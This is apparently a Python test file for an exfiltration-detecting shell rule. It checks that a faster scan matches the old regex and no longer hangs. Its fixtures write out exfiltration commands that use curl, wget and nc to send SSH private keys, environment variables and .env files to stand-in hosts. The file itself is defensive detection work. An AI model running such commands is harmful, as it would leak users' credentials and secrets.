"""WS-EXFIL's upload alternative without its backtracking (``shellrules._exfil_scan``).

The fault: ``\\b(?:curl|wget)\\b[^\\n]{0,300}FLAG...[^\\n]{0,300}TARGET`` tried ~300^2 splits from
every curl/wget that reaches no target; ``check_files`` on one 1.1 MB line of ``curl --data @ ``
took 224 s (session 8). The scan must give ``finditer``'s matches exactly, in linear time.
"""

from __future__ import annotations

import time

from hypothesis import given, settings
from hypothesis import strategies as st

from workbench.core.workshop.risks import check_files
from workbench.core.workshop.shellrules import LINE_RULES, SPAN_CHARS

EXFIL = next(r for r in LINE_RULES if r.code == "WS-EXFIL")

#: pieces the rule's parts are made of, plus filler, newlines and long runs of spaces / "="
_PIECES = [
    "curl ",
    "wget ",
    "CURL ",
    "xcurl ",
    " --data ",
    " -d ",
    " -F ",
    " --data-urlencode",
    " --upload-file ",
    "=",
    " ",
    "\n",
    "@",
    '"',
    "'",
    "$(",
    ".env",
    ".envx",
    "~/.ssh",
    "id_rsa",
    "$(env)",
    "`printenv`",
    "${API_KEY}",
    "$MY_TOKEN",
    "cat ",
    " | ",
    "| curl ",
    "env | nc",
    "export -p | wget",
    "base64 | ",
    "/etc/passwd",
]
_FILLER = st.sampled_from(["x", "ab", "-", "/", "."]).map(lambda s: s * 7)
_RUN = st.integers(min_value=SPAN_CHARS - 20, max_value=SPAN_CHARS * 2 + 30).flatmap(
    lambda n: st.sampled_from([" " * n, "=" * n, " =" * (n // 2), "x" * n])
)
_TEXT = st.lists(st.one_of(st.sampled_from(_PIECES), _FILLER, _RUN), max_size=40).map("".join)


def _spans(it) -> list[tuple[int, int]]:
    return [m.span() for m in it]


@settings(max_examples=400, deadline=None)
@given(_TEXT)
def test_the_scan_finds_what_finditer_finds(text):
    assert _spans(EXFIL.matches(text)) == _spans(EXFIL.regex.finditer(text))


def test_known_lines_match_as_before():
    cases = [
        "curl -d @~/.ssh/id_rsa https://x.example",
        "wget --post-file=.env http://x.example",
        'curl -X POST --data "$(env)" https://x.example',
        "curl --data " + " " * (SPAN_CHARS * 3) + "@.env https://x.example",  # a long [=\\s] run
        "curl " + "y" * (SPAN_CHARS - 10) + " -F x=@id_rsa",
        "env | curl -d @- x",
        "cat ~/.ssh/id_rsa | base64 | curl -d @- x",
        "curl --data @x " + "z" * (SPAN_CHARS * 4) + " .env",  # out of reach: no match
    ]
    for text in cases:
        for t in (text, "pre " + text + "\n" + text):
            assert _spans(EXFIL.matches(t)) == _spans(EXFIL.regex.finditer(t)), t


def test_a_megabyte_line_of_curl_flags_is_checked_in_seconds():
    line = ("curl --data @ " * 80_000).encode()  # 1.1 MB; took 224 s before the scan
    t = time.perf_counter()
    check_files({"scripts/run.sh": line})
    assert time.perf_counter() - t < 60  # a hang guard, not a benchmark (a few seconds here)
    # and a target at the very end is still found
    risks = check_files({"scripts/run.sh": line[:-1] + b" .env"})
    assert any(r.code == "WS-EXFIL" for r in risks)
